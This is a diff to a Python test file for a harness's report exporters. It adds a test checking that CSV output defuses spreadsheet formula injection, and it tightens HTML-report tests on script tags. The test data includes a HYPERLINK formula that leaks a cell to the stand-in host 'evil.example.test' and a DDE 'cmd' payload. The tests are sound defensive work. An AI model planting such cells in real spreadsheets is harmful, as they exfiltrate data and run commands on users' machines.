@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import os
@@ -14,12 +16,14 @@ from pathlib import Path
 import pytest
 import recorded as rec
 from pydantic import JsonValue, ValidationError
+from report_pages import without_script
 
 from harness.cli.output import say_json
 from harness.receipt import RunStore
 from harness.recording import dump, recording_path, reseal
 from harness.redaction import SecretGuard
 from harness.reporters import github, html, markdown, terminal
+from harness.reporters._csv_text import Cell, csv_text
 from harness.schema.actor import ActorIdentity
 from harness.schema.base import canonical_json, digest_json, digest_text
 from harness.schema.graph import GraphEdge, GraphNode, RuleGraph
@@ -123,6 +127,38 @@ def spoken(text: str, scenario: str = "demo/first", trial: int = 1, ref: str = "
     return reseal(made.model_copy(update={"header": made.header.model_copy(update=change)}))
 
 
+D010_CELLS = [
+    '=HYPERLINK("https://evil.example.test?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\u200b=1",
+    " =1",
+    "-12.5",
+    "-Infinity",
+    'a,b"c\nd',
+]
+D010_NUMBERS = [-12.5, 3]
+
+
+def test_d010_a_cell_of_text_is_no_formula_and_a_number_stays_one() -> None:
+    head = [f"column {number}" for number in range(len(D010_CELLS) + len(D010_NUMBERS))]
+    row: dict[str, Cell] = dict(zip(head, [*D010_CELLS, *D010_NUMBERS], strict=True))
+    text = csv_text(head, [row])
+
+    found_head, found = csv.reader(io.StringIO(text, newline=""))
+    assert found_head == head
+    for cell in found[:10]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        shown = cell.lstrip("\u200b\u200c\u200d\u2060\ufeff\ufffd \t\r\n\xa0")
+        assert not shown.startswith(("=", "+", "-", "@"))
+    assert found[10] == 'a,b"c\nd'
+    assert found[11:] == ["-12.5", "3"]
+    assert [float(cell) for cell in found[11:]] == D010_NUMBERS
+
+
 @pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf])
 def test_d004_a_number_that_is_none_is_an_error_at_the_source(
     number: float, capsys: pytest.CaptureFixture[str]
@@ -181,7 +217,9 @@ def test_d006_no_element_and_no_attribute_of_the_page_comes_from_a_text(hostile:
     page = html.build().render(hostile)
     seen = Tags(page)
     tags = [tag for tag, _ in seen.tags]
-    assert (tags.count("style"), {"script", "img", "iframe", "link"} & set(tags)) == (1, set())
+    assert (tags.count("style"), {"img", "iframe", "link"} & set(tags)) == (1, set())
+    # the page's own: the data, which no browser runs, and what reads it
+    assert [found for tag, found in seen.tags if tag == "script"] == [{"type": "text/plain", "id": "packed"}, {}]
     names = {name for _, attributes in seen.tags for name in attributes}
     assert not {name for name in names if name.startswith("on")} | {"src", "style"} & names
     assert all(attributes["href"].startswith("#") for _, attributes in seen.tags if "href" in attributes)
@@ -190,7 +228,7 @@ def test_d006_no_element_and_no_attribute_of_the_page_comes_from_a_text(hostile:
 
 
 def test_d006_the_text_is_shown_as_it_is_in_every_place(hostile: RunView) -> None:
-    text = "".join(Tags(html.build().render(hostile)).words)
+    text = "".join(Tags(without_script(html.build().render(hostile))).words)
     # actor, tool, asks, problem, expected and got, changed path, file name, model's words
     assert text.count(HOSTILE) >= 9
     assert "".join(HOSTILE.split()) in "".join(terminal.build().render(hostile).split())
